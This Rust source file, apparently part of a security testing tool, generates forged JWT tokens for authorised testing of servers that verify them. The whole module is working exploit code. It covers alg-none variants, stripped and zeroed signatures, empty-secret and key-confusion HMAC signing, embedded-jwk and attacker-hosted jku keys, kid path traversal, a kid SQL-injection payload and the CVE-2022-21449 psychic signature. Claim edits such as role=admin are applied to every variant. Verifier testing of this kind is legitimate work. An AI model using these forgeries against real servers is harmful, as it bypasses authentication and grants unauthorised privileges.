//! Attack variants of a token, for authorised testing of the servers that accept it.
//!
//! Each variant is a token a vulnerable verifier would accept, with a stable kebab-case id and
//! a sentence on what it tests. Claim edits (`role=admin`, `exp=+1h`) apply to every variant,
//! so one run probes each weakness with the privileges the tester wants.

use serde::Serialize;
use serde_json::{Map, Value, json};

use super::decode::{Decoded, TokenKind};
use super::keygen::{KeyPair, generate};
use super::sign::{SigningKey, apply_edits, hmac_raw, sign_payload_b64};
use super::{JwtError, Result, b64};

/// Every attack id, in the order `forge` produces them.
pub const ATTACKS: &[&str] = &[
    "alg-none",
    "alg-none-capitalized",
    "alg-none-upper",
    "alg-none-mixed",
    "signature-stripped",
    "null-signature",
    "empty-secret",
    "key-confusion",
    "embedded-jwk",
    "jku",
    "kid-traversal",
    "kid-traversal-known-file",
    "kid-sql-injection",
    "psychic-signature",
    "resign",
];

/// Twelve steps up: more than enough from any key folder, since `..` at the root stays there.
const UP: &str = "../../../../../../../../../../../../";

/// A file with known, non-empty contents on common Linux systems, for servers (and
/// libraries such as current pyjwt) that refuse an empty HMAC key.
const KNOWN_FILE: (&str, &[u8]) = ("proc/sys/kernel/randomize_va_space", b"2\n");

/// The HMAC key the SQL-injected kid makes a vulnerable key lookup return.
const SQL_KEY: &str = "apiward";

/// The kid a forged jku token names, matching the JWKS returned with it.
pub const FORGED_KID: &str = "apiward-forged";

/// What the forger may use.
#[derive(Debug, Clone, Default)]
pub struct ForgeOptions {
    /// The server's public key PEM, exactly as it serves it (for key-confusion).
    pub public_key_pem: Option<String>,
    /// A known or cracked HMAC secret (for resign).
    pub secret: Option<Vec<u8>>,
    /// A URL the tester controls, to host the JWKS (for jku).
    pub jku_url: Option<String>,
    /// Claim edits applied to every variant, e.g. ("role", "admin"), ("exp", "+1h").
    pub set: Vec<(String, String)>,
    /// The current time, unix seconds, for relative time edits.
    pub now: i64,
}

/// One forged token.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct Variant {
    /// Stable kebab-case id, one of [`ATTACKS`].
    pub attack: &'static str,
    pub token: String,
    pub explanation: String,
    /// Something the tester must host, such as the JWKS for the jku variant.
    pub extra: Option<String>,
}

/// A variant the options left out, and what it would need: a probe lists these, so that
/// "nothing accepted" never covers an attack that was not sent.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Skipped {
    pub attack: &'static str,
    pub needs: &'static str,
}

/// What the optional variants need, in the words their errors use.
const NEEDS: &[(&str, &str)] = &[
    ("key-confusion", "the server's public key PEM"),
    ("jku", "a jku URL you control"),
    ("resign", "the HMAC secret"),
];

/// The variants `opts` leave out.
pub fn skipped(opts: &ForgeOptions) -> Vec<Skipped> {
    NEEDS
        .iter()
        .filter(|(attack, _)| match *attack {
            "key-confusion" => opts.public_key_pem.is_none(),
            "jku" => opts.jku_url.is_none(),
            _ => opts.secret.is_none(),
        })
        .map(|&(attack, needs)| Skipped { attack, needs })
        .collect()
}

/// Every variant the options allow. Variants that need a missing option are skipped (see
/// [`skipped`]).
pub fn forge(decoded: &Decoded, opts: &ForgeOptions) -> Result<Vec<Variant>> {
    let parts = Parts::new(decoded, opts)?;
    // One fresh key pair serves both embedded-jwk and jku.
    let mut pair = None;
    let mut out = Vec::new();
    for name in ATTACKS {
        match make(name, &parts, opts, &mut pair) {
            Ok(v) => out.push(v),
            Err(JwtError::Forge(..)) => {}
            Err(e) => return Err(e),
        }
    }
    Ok(out)
}

/// One variant by id.
pub fn forge_one(name: &str, decoded: &Decoded, opts: &ForgeOptions) -> Result<Variant> {
    let name = ATTACKS.iter().find(|a| **a == name).ok_or_else(|| {
        JwtError::Forge(
            name.into(),
            format!("unknown attack; use one of {}", ATTACKS.join(", ")),
        )
    })?;
    make(name, &Parts::new(decoded, opts)?, opts, &mut None)
}

/// The token's pieces after claim edits.
struct Parts {
    header: Map<String, Value>,
    alg: String,
    /// The payload segment: the original bytes unless claims were edited.
    payload_b64: String,
    sig_len: usize,
}

impl Parts {
    fn new(d: &Decoded, opts: &ForgeOptions) -> Result<Self> {
        if d.kind == TokenKind::Jwe {
            return Err(JwtError::Jwe);
        }
        let alg = d.alg.clone().unwrap_or_else(|| "HS256".into());
        let payload_b64 = if opts.set.is_empty() {
            d.payload_b64().to_string()
        } else {
            let mut claims = d.claims().cloned().ok_or_else(|| {
                JwtError::ClaimEdit("set".into(), "the payload is not a claims object".into())
            })?;
            apply_edits(&mut claims, &opts.set, opts.now)?;
            b64::encode(Value::Object(claims).to_string())
        };
        let sig_len = match d.signature.len() {
            0 => expected_sig_len(&alg),
            n => n,
        };
        Ok(Self {
            header: d.header.clone(),
            alg,
            payload_b64,
            sig_len,
        })
    }

    fn header_with(&self, edits: &[(&str, Value)], remove: &[&str]) -> String {
        let mut h = self.header.clone();
        for r in remove {
            h.remove(*r);
        }
        for (k, v) in edits {
            h.insert(k.to_string(), v.clone());
        }
        b64::encode(Value::Object(h).to_string())
    }

    fn hmac_token(&self, alg: &str, header: String, key: &[u8]) -> Result<String> {
        let input = format!("{header}.{}", self.payload_b64);
        let sig = hmac_raw(alg, key, input.as_bytes())?;
        Ok(format!("{input}.{}", b64::encode(sig)))
    }

    /// The HMAC alg to use: the token's own when it is HMAC, else HS256.
    fn hs_alg(&self) -> &str {
        match self.alg.as_str() {
            a @ ("HS256" | "HS384" | "HS512") => a,
            _ => "HS256",
        }
    }
}

fn expected_sig_len(alg: &str) -> usize {
    match alg {
        "HS384" => 48,
        "HS512" | "ES256" | "EdDSA" => 64,
        "ES384" => 96,
        "ES512" => 132,
        a if a.starts_with("RS") || a.starts_with("PS") => 256,
        _ => 32,
    }
}

fn make(
    name: &'static str,
    p: &Parts,
    opts: &ForgeOptions,
    pair: &mut Option<KeyPair>,
) -> Result<Variant> {
    let need = || {
        let what = NEEDS
            .iter()
            .find(|(a, _)| *a == name)
            .map_or("", |(_, n)| *n);
        JwtError::Forge(name.into(), format!("needs {what}"))
    };
    let variant = |token: String, explanation: String| Variant {
        attack: name,
        token,
        explanation,
        extra: None,
    };
    let none = |spelling: &str| {
        let h = p.header_with(&[("alg", json!(spelling))], &[]);
        variant(
            format!("{h}.{}.", p.payload_b64),
            format!(
                "alg \"{spelling}\" and no signature: accepted by verifiers that honour the header's alg or compare 'none' case-sensitively."
            ),
        )
    };
    Ok(match name {
        "alg-none" => none("none"),
        "alg-none-capitalized" => none("None"),
        "alg-none-upper" => none("NONE"),
        "alg-none-mixed" => none("nOnE"),
        "signature-stripped" => variant(
            format!("{}.{}.", p.header_with(&[], &[]), p.payload_b64),
            format!("The original alg ({}) with an empty signature: accepted by verifiers that skip empty signatures.", p.alg),
        ),
        "null-signature" => variant(
            format!("{}.{}.{}", p.header_with(&[], &[]), p.payload_b64, b64::encode(vec![0u8; p.sig_len])),
            format!("A signature of {} zero bytes: accepted by verifiers that only check the length or compare with a broken routine.", p.sig_len),
        ),
        "empty-secret" => {
            let alg = p.hs_alg();
            variant(
                p.hmac_token(alg, p.header_with(&[("alg", json!(alg))], &[]), b"")?,
                format!("{alg} signed with an empty secret: accepted where the secret is unset or fails to load."),
            )
        }
        "key-confusion" => {
            let pem = opts.public_key_pem.as_deref().ok_or_else(need)?;
            let alg = p.hs_alg();
            variant(
                p.hmac_token(alg, p.header_with(&[("alg", json!(alg))], &[]), pem.as_bytes())?,
                format!("{alg} keyed with the server's public key PEM bytes: accepted by verifiers that take the alg from the token and use the RSA/EC key as an HMAC secret (RFC 8725 §3.1). Try the PEM with and without its final newline."),
            )
        }
        "embedded-jwk" => {
            let kp = keypair(pair, &p.alg)?;
            let jwk = bare_jwk(&kp.public_jwk, None);
            let mut h = strip(&p.header, &["jku", "x5u", "x5c"]);
            h.insert("jwk".into(), jwk);
            variant(
                sign_payload_b64(&h, &p.payload_b64, kp.alg, &SigningKey::Pem(kp.private_pem.clone()))?,
                format!("Signed with a fresh {} key embedded in the jwk header: accepted by verifiers that trust the token's own key (CVE-2018-0114).", kp.alg),
            )
        }
        "jku" => {
            let url = opts.jku_url.as_deref().ok_or_else(need)?;
            let kp = keypair(pair, &p.alg)?;
            let jwk = bare_jwk(&kp.public_jwk, Some(FORGED_KID));
            let mut h = strip(&p.header, &["jwk", "x5u", "x5c"]);
            h.insert("jku".into(), json!(url));
            h.insert("kid".into(), json!(FORGED_KID));
            let mut v = variant(
                sign_payload_b64(&h, &p.payload_b64, kp.alg, &SigningKey::Pem(kp.private_pem.clone()))?,
                format!("jku points to {url}; host the returned JWKS there. Accepted by verifiers that fetch keys from the token's jku without an allowlist."),
            );
            v.extra = Some(json!({"keys": [jwk]}).to_string());
            v
        }
        "kid-traversal" => variant(
            p.hmac_token("HS256", p.header_with(&[("alg", json!("HS256")), ("kid", json!(format!("{UP}dev/null")))], &[]), b"")?,
            "kid points at /dev/null (twelve levels up, enough from any key folder) and the token is HS256-signed with an empty secret: accepted by servers that read the key from a file named by kid.".into(),
        ),
        "kid-traversal-known-file" => {
            let (file, contents) = KNOWN_FILE;
            variant(
                p.hmac_token("HS256", p.header_with(&[("alg", json!("HS256")), ("kid", json!(format!("{UP}{file}")))], &[]), contents)?,
                format!("kid points at /{file}, whose contents are \"2\\n\" on most Linux systems, and the token is HS256-signed with them: accepted by servers that read the key from a file named by kid even when they refuse an empty key."),
            )
        }
        "kid-sql-injection" => variant(
            p.hmac_token("HS256", p.header_with(&[("alg", json!("HS256")), ("kid", json!(format!("x' UNION SELECT '{SQL_KEY}'-- ")))], &[]), SQL_KEY.as_bytes())?,
            format!("kid ends a SQL string and unions in the key '{SQL_KEY}', which signs the token: accepted by servers that look the key up with a query built from kid."),
        ),
        "psychic-signature" => variant(
            format!("{}.{}.{}", p.header_with(&[("alg", json!("ES256"))], &[]), p.payload_b64, b64::encode([0u8; 64])),
            "ES256 with r = s = 0: accepted by Java 15-18 ECDSA verifiers (CVE-2022-21449) for any key.".into(),
        ),
        "resign" => {
            let secret = opts.secret.as_deref().ok_or_else(need)?;
            let alg = p.hs_alg();
            variant(
                p.hmac_token(alg, p.header_with(&[("alg", json!(alg))], &[]), secret)?,
                format!("Re-signed {alg} with the known secret: valid wherever that secret is trusted, with the edited claims."),
            )
        }
        other => return Err(JwtError::Forge(other.into(), "unknown attack".into())),
    })
}

fn keypair<'a>(pair: &'a mut Option<KeyPair>, alg: &str) -> Result<&'a KeyPair> {
    if pair.is_none() {
        *pair = Some(generate(alg)?);
    }
    pair.as_ref()
        .ok_or_else(|| JwtError::Sign("no key pair".into()))
}

/// A public JWK with only its key members (and an optional kid): what attackers embed.
fn bare_jwk(jwk: &Value, kid: Option<&str>) -> Value {
    let mut out = Map::new();
    for k in ["kty", "crv", "n", "e", "x", "y"] {
        if let Some(v) = jwk.get(k) {
            out.insert(k.into(), v.clone());
        }
    }
    if let Some(kid) = kid {
        out.insert("kid".into(), json!(kid));
    }
    Value::Object(out)
}

fn strip(header: &Map<String, Value>, names: &[&str]) -> Map<String, Value> {
    header
        .iter()
        .filter(|(k, _)| !names.contains(&k.as_str()))
        .map(|(k, v)| (k.clone(), v.clone()))
        .collect()
}

#[cfg(test)]
#[path = "forge_tests.rs"]
mod tests;
